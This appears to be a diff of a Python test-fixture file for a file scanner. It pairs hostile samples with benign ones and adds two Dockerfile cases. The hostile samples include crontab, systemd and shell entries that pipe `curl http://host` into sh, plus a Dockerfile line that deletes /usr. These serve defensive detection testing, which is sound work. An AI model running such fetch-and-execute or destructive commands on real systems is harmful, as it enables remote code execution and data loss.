@@ -147,6 +147,7 @@ def source() -> Iterator[Sample]:
         "crontab": "* * * * * root curl http://host | sh",
         "x.service": "[Service]\nExecStart=/bin/sh -c 'curl http://host | sh'",
         "notes.txt": "\n#!/bin/sh\ncurl http://host | sh\n",
+        "Dockerfile": "FROM x\nRUN rm -rf /var/lib/apt /usr\n",
         "autorun.inf": "[AutoRun]\nopen=x.exe",
     }.items():
         yield name, text.encode()
@@ -281,6 +282,10 @@ def honest() -> Iterator[Sample]:
         ),
     )
     yield "model.py", "# -*- coding: latin-1 -*-\nx = 'é'\nπ = 3\n".encode()
+    yield (
+        "Dockerfile",
+        b"FROM python:3.12\nRUN apt-get install -y git && rm -rf /var/lib/apt/lists/*  /root/.cache\n",
+    )
     yield "kernel.cu", b"__global__ void run(float *x) { x[0] = exp(x[0]); }"
     yield "index.js", b"export function run(x) { return /a/.exec(x) }"
     yield "plot.R", b"library(ggplot2)\nSys.time()\nsystem.time(x)\n"
@@ -296,6 +301,7 @@ def honest() -> Iterator[Sample]:
     yield "a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/><text>a &#233; on=1</text></svg>"
     yield "a.html", b"<html><table border='1'><tr><td onclick='x'>1</td></tr></table></html>"
     yield "a.html", b"<html><script src='_static/x.js'></script><a href='javascript:void(0)'>x</a></html>"
+    yield "data.arrow", b"\xff\xff\xff\xff\x10\0\0\0\x0c\0\0\0" + bytes(20) + b"\xff\xff\xff\xff\0\0\0\0"
     yield "weights.bin", bytes(range(256)) * 64
     yield "a.gz", b"\x1f\x8b\x08\x08\0\0\0\0\0\3a.csv\0" + gzip.compress(b"1,2\n")[10:]
     yield "config.json", layer("Dense", units=2)
